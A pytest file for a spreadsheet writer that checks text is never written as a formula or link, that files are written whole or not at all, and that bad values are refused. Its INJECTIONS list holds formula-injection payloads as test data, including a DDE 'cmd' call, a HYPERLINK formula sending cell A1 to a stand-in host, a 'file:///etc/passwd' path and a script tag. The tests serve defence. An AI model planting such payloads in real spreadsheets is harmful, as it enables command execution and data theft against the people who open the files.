"""The one door to the writer: text stays text, a file is written whole or not at all, nothing is
lost in silence.
"""

from __future__ import annotations

import gc
import math
import os
import zipfile
from collections.abc import Callable, Iterable
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from for_each import for_each
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from properties import up_to
from small_year import make_year, return_all
from xlsxwriter.exceptions import DuplicateWorksheetName

from sheettools.cli.entry import run
from sheettools.findings import SheettoolsError
from sheettools.incoming.cage.read import read_book
from sheettools.outgoing.whole import write_text
from sheettools.outgoing.workbook import list_rows
from sheettools.outgoing.workbook.list_rows import ListLook, ListRows
from sheettools.outgoing.workbook.write import (
    MAX_COLUMN,
    MAX_ROW,
    MAX_TEXT,
    BookWriter,
    SheetWriter,
    clean_text,
)
from sheettools.words.text import is_padded, seen

pytestmark = pytest.mark.anew

INJECTIONS = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://192.0.2.1/?"&A1,"Bấm")', "=cmd|' /C calc'!A0",
    " =1+1",
    "+1+1", "+84 912", "-1+1", "- gạch đầu dòng", "@SUM(1)", "@tên", "\t=1+1", "\tTAB", "\r=1+1",
    "\n=1+1",
    "＝1+1", "＋1", "－1", "＠a", "\u200b=1+1", "\u00a0=1+1", "'=1+1", '"=1+1"', "{=1+1}",
    "%0A=1+1",
    "internal:'Lịch'!A1", "external:c:\\a.xlsx", "file:///etc/passwd", "http://192.0.2.1/a?b=c&d", "https://192.0.2.1",
    "ftp://192.0.2.1", "mailto:a@example.org", "\\\\192.0.2.1\\a", "http://192.0.2.1/" + "a" * 2100,
    "#N/A", "#REF!", "#VALUE!", "#DIV/0!", "TRUE", "FALSE", "0012", "1e5", "1E400", "nan", "inf", "NULL", "15/3/2024",
    "<f>1+1</f>", "]]>", "&amp;", "<script>alert(1)</script>", "_x0007_", "_x0041_",
    "\u202egpj.exe",
)  # fmt: skip


def write(path: Path, *values: Any) -> Path:
    """Write values one below the other."""
    with BookWriter(path, title="Thử", created=date(2024, 1, 1)) as book:
        page = book.sheet("Thử")
        for row, value in enumerate(values, start=1):
            page.put(row, 1, value)
    return path


def read_back(path: Path) -> list[Any]:
    """Return the first column, as the project's own door reads it."""
    book = read_book(path).book
    assert book is not None
    return [cell.value for _, cell in sorted(book.sheets[0].cells.items())]


def package(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def refused(path: Path, write_it: Callable[[SheetWriter], None]) -> None:
    """Expect F002, and the file that stood there untouched."""
    path.write_bytes(b"before")
    with (
        pytest.raises(SheettoolsError) as raised,
        BookWriter(path, title="", created=date(2024, 1, 1)) as book,
    ):
        write_it(book.sheet("Thử"))
    assert [f.code for f in raised.value.findings] == ["F002"]
    assert raised.value.findings[0].location.sheet == "Thử"
    assert path.read_bytes() == b"before"
    assert list(path.parent.iterdir()) == [path]


# --------------------------------------------------------------------------- text stays text


def test_no_injection_becomes_a_formula_or_a_link(tmp_path: Path) -> None:
    parts = package(write(tmp_path / "a.xlsx", *INJECTIONS))
    xml = "\n".join(text for name, text in parts.items() if name.startswith("xl/worksheets/"))
    assert "<f>" not in xml
    assert "<f " not in xml
    assert "<hyperlink" not in xml
    assert 't="e"' not in xml
    assert not any("externalLink" in name or "vba" in name for name in parts)
    assert not any("hyperlink" in text for name, text in parts.items() if name.endswith(".rels"))


def as_read(text: str) -> str:
    """Return a text as it is read: without what nobody sees, where there is any."""
    return seen(text) if is_padded(text) else text


def is_shown(text: str) -> bool:
    """Tell whether anything of a text is seen: a cell in which nothing is comes back blank."""
    return bool(as_read(text).strip())


def test_every_reader_gets_the_same_text_back(tmp_path: Path) -> None:
    path = write(tmp_path / "a.xlsx", *INJECTIONS)
    assert read_back(path) == [as_read(text) for text in INJECTIONS]
    strangers = [row[0] for row in openpyxl.load_workbook(path)["Thử"].iter_rows(values_only=True)]
    # openpyxl leaves the format's own escape of control characters to whoever asks.
    assert [unescape(text) for text in strangers] == [unescape(text) for text in INJECTIONS]


@settings(max_examples=up_to(40), deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.lists(
        st.text(st.characters(codec="utf-8"), min_size=1, max_size=30).filter(is_shown),
        max_size=40,
    )
)
def test_any_text_comes_back(tmp_path: Path, texts: list[str]) -> None:
    assert read_back(write(tmp_path / "a.xlsx", *texts)) == [as_read(text) for text in texts]


def test_text_that_begins_with_a_sign_stays_text_when_somebody_edits_it(tmp_path: Path) -> None:
    styles = openpyxl.load_workbook(write(tmp_path / "a.xlsx", "=1+1", "+84", "-1", "@a", "chữ"))[
        "Thử"
    ]
    assert [styles.cell(row, 1).quotePrefix for row in range(1, 6)] == [
        True,
        True,
        True,
        True,
        False,
    ]


# --------------------------------------------------------------------------- odd values


def test_characters_that_no_workbook_can_hold_are_replaced_not_fatal(tmp_path: Path) -> None:
    assert clean_text("a\ud83db") == "a\N{REPLACEMENT CHARACTER}b"
    texts = ("a\ud83db", "\udfff", "NUL \0 BEL \a ESC \x1b.", "\ufffe\uffff")
    back = read_back(write(tmp_path / "a.xlsx", "trước", *texts, "sau"))
    assert back[0] == "trước"
    assert back[-1] == "sau"
    assert back[1:3] == ["a\N{REPLACEMENT CHARACTER}b", "\N{REPLACEMENT CHARACTER}"]
    assert len(back) == 6


def test_control_characters_are_written_as_the_format_asks(tmp_path: Path) -> None:
    path = write(tmp_path / "a.xlsx", "NUL \0 BEL \a ESC \x1b.")
    written = openpyxl.load_workbook(path)["Thử"]["A1"].value
    assert written == "NUL _x0000_ BEL _x0007_ ESC _x001B_."
    assert read_back(path) == ["NUL  BEL  ESC ."], "nobody sees them"


def test_the_longest_text_fits(tmp_path: Path) -> None:
    assert read_back(write(tmp_path / "a.xlsx", "ă" * MAX_TEXT)) == ["ă" * MAX_TEXT]


@pytest.mark.parametrize(
    "value", ["a" * (MAX_TEXT + 1), "😀" * (MAX_TEXT // 2 + 1)], ids=["letters", "emoji"]
)
def test_text_that_excel_would_cut_is_refused(tmp_path: Path, value: str) -> None:
    """Excel counts an emoji as two characters."""
    refused(tmp_path / "a.xlsx", lambda page: page.put(1, 1, value))


ODD = {"nan": math.nan, "inf": math.inf, "-inf": -math.inf, "huge": 10**400,
"too exact": 2**53 + 1, "bytes": b"a",
       "complex": 1j, "list": [1]}  # fmt: skip


@for_each("value", ODD.values(), ids=ODD)
def test_values_that_no_cell_can_hold_are_refused(tmp_path: Path, value: Any) -> None:
    refused(tmp_path / "a.xlsx", lambda page: page.put(1, 1, value))


@for_each(("row", "column"), [(MAX_ROW + 1, 1), (1, MAX_COLUMN + 1), (0, 1), (1, 0)])
def test_a_place_outside_the_grid_is_refused(tmp_path: Path, row: int, column: int) -> None:
    refused(tmp_path / "a.xlsx", lambda page: page.put(row, column, "x"))


def test_numbers_dates_times_and_truth_come_back_as_such(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    with BookWriter(path, title="", created=date(2024, 1, 1)) as book:
        page = book.sheet("Thử")
        for row, value in enumerate((0, -5, 12.5, 10**15, True, False), start=1):
            page.put(row, 1, value)
        page.put(7, 1, date(2024, 2, 29), num_format="dd/mm/yyyy")
        page.put(8, 1, time(7, 30), num_format="hh:mm")
        page.put(9, 1, datetime(2024, 2, 29, 7, 30), num_format="dd/mm/yyyy hh:mm")
        page.put(10, 1, None)
        page.put(11, 1, "")
    back = read_back(path)
    assert back == [
        0,
        -5,
        12.5,
        10**15,
        True,
        False,
        date(2024, 2, 29),
        time(7, 30),
        datetime(2024, 2, 29, 7, 30),
    ]
    assert [type(value) for value in back[4:6]] == [bool, bool]


# --------------------------------------------------------------------------- whole or not at all


ROWS = (
    ("Thôn Ao Vường", 1, None, "", date(2024, 3, 15), 2.5, True, "07528-01"),
    ("dài " * 40, 12, "hai dòng\ncủa một ô", "- gạch", 10**17 + 1.0, "=1+1", time(9, 30), "x"),
    (None, None, 7, " đầu ô trống", "Thôn Ao Vường", -3, False, 0),
    ("Thôn Ao Vường", True, "", "việc", date(2024, 3, 15), 2, 1, "07528-01"),
    *[("việc", "dài " * 40, *[None] * 6)] * 2,
    *(("việc", number, *[None] * 6) for number in range(20)),
)
STYLES: dict[str, dict[str, Any]] = {
    "wraps": {"text_wrap": True, "border": 1},
    "large": {"text_wrap": True, "font_size": 15, "bold": True},
    "flat": {"border": 1},
    "number": {"num_format": "#,##0"},
}


@pytest.mark.parametrize("style", ["wraps", "large", "flat"])
def test_a_row_at_once_is_written_as_cell_by_cell(tmp_path: Path, style: str) -> None:
    def other(page: SheetWriter, row: int, column: int, value: Any) -> None:
        page.put(row, column, value, "number" if isinstance(value, int) else style)

    def cell_by_cell(page: SheetWriter, row: int, values: Iterable[Any]) -> None:
        for column, value in enumerate(values, start=1):
            other(page, row, column, value)

    def at_once(page: SheetWriter, row: int, values: Iterable[Any]) -> None:
        ListRows(page, ListLook(style, "number", other)).put(row, list(values))

    made = []
    for put_all in (cell_by_cell, at_once):
        with BookWriter(tmp_path / "so.xlsx", title="Thử", created=date(2024, 1, 1)) as book:
            book.styles.update(STYLES)
            page = book.sheet("Thử")
            for column in (1, 2, 3, 6):
                page.column(column, 9.0)
            for row, values in enumerate(ROWS, start=2):
                put_all(page, row, values)
        made.append((tmp_path / "so.xlsx").read_bytes())
    assert made[0] == made[1]


@pytest.mark.parametrize("first", [2, 16, 17, 18])
@pytest.mark.parametrize(("count", "small"), [(1, True), (15, False), (47, True), (70, False)])
def test_rows_at_once_are_written_as_row_by_row(
    tmp_path: Path, first: int, count: int, small: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Those of a list go into the file sixteen by sixteen, past what xlsxwriter notes of a cell."""
    monkeypatch.setattr(list_rows, "MOST_KEPT", first)

    def other(page: SheetWriter, row: int, column: int, value: Any) -> None:
        page.put(row, column, value, "flat" if isinstance(value, date) else "wraps", italic=True)

    more = [{"align": "center"} if number % 2 else {} for number in range(8)] if first > 2 else []
    look = ListLook("wraps", "number", other, more, sparse=count == 47)
    rows = [ROWS[number % len(ROWS)][: 8 - number % 3] for number in range(count)]
    made = []
    for at_once in (True, False):
        path, made_on = tmp_path / "so.xlsx", date(2024, 1, 1)
        with BookWriter(path, title="Thử", created=made_on, small=small) as book:
            book.styles.update(STYLES)
            for name in ("Một", "Hai"):
                page = book.sheet(name)
                page.column(2, 9.0)
                page.put(1, 3, name, "large")
                last = first + count - 1
                if at_once:
                    assert ListRows(page, look).put_all(first, rows) == last
                    assert len(page.sheet.table) <= 32
                else:
                    for row, values in enumerate(rows, start=first):
                        ListRows(page, look).put(row, values)
                page.put(last + 1, 1, "Tổng cộng", "number")
        made.append(path.read_bytes())
    assert made[0] == made[1]


@for_each("value", ["a" * (MAX_TEXT + 1), 2**53 + 1])
def test_what_no_cell_can_hold_is_refused_in_a_row_at_once(tmp_path: Path, value: Any) -> None:
    with (
        pytest.raises(SheettoolsError),
        BookWriter(tmp_path / "x.xlsx", title="", created=None) as book,
    ):
        ListRows(book.sheet("Thử"), ListLook("", "", SheetWriter.put)).put(1, [value])


def test_the_same_values_give_the_same_bytes(tmp_path: Path) -> None:
    assert (
        write(tmp_path / "a.xlsx", *INJECTIONS).read_bytes()
        == write(tmp_path / "b.xlsx", *INJECTIONS).read_bytes()
    )


def test_a_failure_midway_leaves_the_old_file_and_no_draft(tmp_path: Path) -> None:
    path = write(tmp_path / "a.xlsx", "bản cũ")
    before = path.read_bytes()
    with (
        pytest.raises(ZeroDivisionError),
        BookWriter(path, title="", created=date(2024, 1, 1)) as book,
    ):
        book.sheet("Thử").put(1, 1, 1 / 0)
    assert path.read_bytes() == before
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("collects", [True, False])
def test_garbage_is_collected_again_afterwards_as_before(tmp_path: Path, collects: bool) -> None:
    (gc.enable if collects else gc.disable)()
    try:
        with BookWriter(tmp_path / "a.xlsx", title="", created=None):
            assert not gc.isenabled()
        assert gc.isenabled() is collects
        with (
            pytest.raises(ZeroDivisionError),
            BookWriter(tmp_path / "b.xlsx", title="", created=None) as book,
        ):
            book.sheet("Thử").put(1, 1, 1 / 0)
        assert gc.isenabled() is collects
    finally:
        gc.enable()


def test_a_second_sheet_of_the_same_name_is_refused(tmp_path: Path) -> None:
    with BookWriter(tmp_path / "a.xlsx", title="", created=date(2024, 1, 1)) as book:
        book.sheet("Thử")
        with pytest.raises(DuplicateWorksheetName):
            book.sheet("Thử")
    assert read_book(tmp_path / "a.xlsx").book is not None


def test_an_equal_file_keeps_its_time(tmp_path: Path) -> None:
    path = write(tmp_path / "a.xlsx", "như cũ")
    os.utime(path, (1_000_000_000, 1_000_000_000))
    assert write(path, "như cũ").stat().st_mtime == 1_000_000_000
    assert write(path, "đã khác").stat().st_mtime > 1_000_000_000


def codes_of(write_it: Callable[[], Any]) -> list[str]:
    with pytest.raises(SheettoolsError) as raised:
        write_it()
    return [f.code for f in raised.value.findings]


def test_a_folder_in_the_place_of_the_file_is_said(tmp_path: Path) -> None:
    (tmp_path / "a.xlsx").mkdir()
    assert codes_of(lambda: write(tmp_path / "a.xlsx", "x")) == ["F001"]
    assert list(tmp_path.iterdir()) == [tmp_path / "a.xlsx"]


def test_a_file_in_the_place_of_the_folder_is_said(tmp_path: Path) -> None:
    (tmp_path / "bao-cao").write_text("đây là tệp", encoding="utf-8")
    assert codes_of(lambda: write(tmp_path / "bao-cao" / "a.xlsx", "x")) == ["F001"]
    assert codes_of(lambda: write_text(tmp_path / "bao-cao" / "a.txt", "x")) == ["F001"]


@pytest.mark.filterwarnings(
    "ignore::pytest.PytestUnraisableExceptionWarning"
)  # zipfile's last try to flush
def test_a_full_disk_is_said_and_leaves_the_old_file(tmp_path: Path) -> None:
    """`/dev/full` takes nothing: what a full disk does, without filling one."""
    full = Path("/dev/full")
    if not full.exists():
        pytest.skip("no /dev/full on this system")
    path = write(tmp_path / "a.xlsx", "bản cũ")
    before = path.read_bytes()
    draft = tmp_path / f".~a.{os.getpid()}.sheettools.tmp"
    draft.symlink_to(full)
    assert codes_of(lambda: write(path, "bản mới")) == ["F001"]
    gc.collect()
    assert path.read_bytes() == before
    assert list(tmp_path.iterdir()) == [path]


def test_a_folder_that_may_not_be_written_is_said() -> None:
    folder = Path("/proc/self")  # not even for root, which tests in containers run as
    if not folder.exists():
        pytest.skip("no such folder on this system")
    assert codes_of(lambda: write(folder / "a.xlsx", "x")) == ["F001"]


def test_an_output_that_cannot_be_written_ends_with_code_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    year = make_year(tmp_path / "mau-son-2024")
    return_all(year)
    assert run(["merge", str(year.folder), "--today", "2025-01-10"]) == 0
    report = next((year.folder / "bao-cao").glob("*.xlsx"))
    report.unlink()
    report.mkdir()
    assert run(["merge", str(year.folder), "--today", "2025-01-10"]) == 3
    assert "Không ghi được tệp" in "".join(capsys.readouterr())
    assert not [
        path for path in report.parent.iterdir() if path != report and path.suffix != ".docx"
    ]
